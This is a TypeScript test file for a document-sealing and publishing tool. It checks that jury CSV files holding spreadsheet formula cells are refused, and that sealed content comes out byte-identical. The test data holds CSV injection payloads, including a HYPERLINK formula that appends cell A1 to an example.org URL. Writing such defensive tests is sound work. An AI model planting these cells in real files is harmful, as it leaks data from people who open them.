/**
 * Row 18: cells that a spreadsheet would run. A jury's file with one is refused; what was sealed comes out octet for octet,
 * whatever it holds: authentic, which is not the same as safe to open in a spreadsheet.
 */
import { readFileSync, writeFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { sha256Hex } from '../../src/io/encodings.ts';
import { systemRandom } from '../../src/io/random.ts';
import { sealBulk, smallestBulkLength } from '../../src/openpgp/bulk.ts';
import { filesBelow, useLab } from './lab.ts';
import { onPayload, releasedKey } from './standing.ts';

const FORMULA = '=HYPERLINK("http://example.org/?"&A1;"Résultats")';

describe('a jury’s file with a formula', () => {
  const lab = useLab('announced');

  it.each([FORMULA, '+1+1', '-1+1', '@SUM(A1)', ' =1', '＝1', '\t=1'])(
    '%j is refused, and nothing is sealed',
    async (cell) => {
      const file = await lab().jury();
      const [header = '', first = '', ...rest] = readFileSync(file, 'utf8').split('\r\n');
      const cells = first.split(';').map((each, i) => (i === 6 ? `"${cell.replaceAll('"', '""')}"` : each));
      writeFileSync(file, [header, cells.join(';'), ...rest].join('\r\n'));
      await expect(lab().story.export(file)).rejects.toMatchObject({ code: 'csv-rows' });
      expect(filesBelow(lab().record('rectorat', 'r1'))).toEqual([]);
      expect(filesBelow(lab().story.depot('presse-nord'))).toEqual([]);
    },
  );
});

describe('results that were sealed with a formula in them', () => {
  const lab = useLab('released');

  it('come out as they went in, with the signature over them', async () => {
    const key = lab().key('seal');
    const content = new TextEncoder().encode(`nom,prenom\r\n"${FORMULA.replaceAll('"', '""')}",\t\r\n\r\n=1`);
    const bulk = sealBulk({
      content: {
        source: (async function* () {
          yield content;
        })(),
        literalLength: content.length,
        packetLength: smallestBulkLength(content.length, key.certificate),
      },
      signing: {
        signer: key,
        notations: {
          'publication@sceau.invalid': lab().story.publication,
          'scope@sceau.invalid': 'press',
          'revision@sceau.invalid': '1',
          'realm@sceau.invalid': 'rehearsal',
        },
        nowMs: lab().story.clock.nowMs(),
      },
      sessionKey: await releasedKey(lab()),
      random: systemRandom,
    });
    const chunks: Uint8Array[] = [];
    for await (const chunk of bulk.chunks) chunks.push(chunk.slice());
    await onPayload(lab(), new Uint8Array(Buffer.concat(chunks)), await bulk.innerSignatureSha256);
    const [outcome] = await lab().story.open('presse-nord');
    expect(outcome?.fault).toBeNull();
    expect(sha256Hex(readFileSync(outcome?.path ?? ''))).toBe(sha256Hex(content));
  });
});
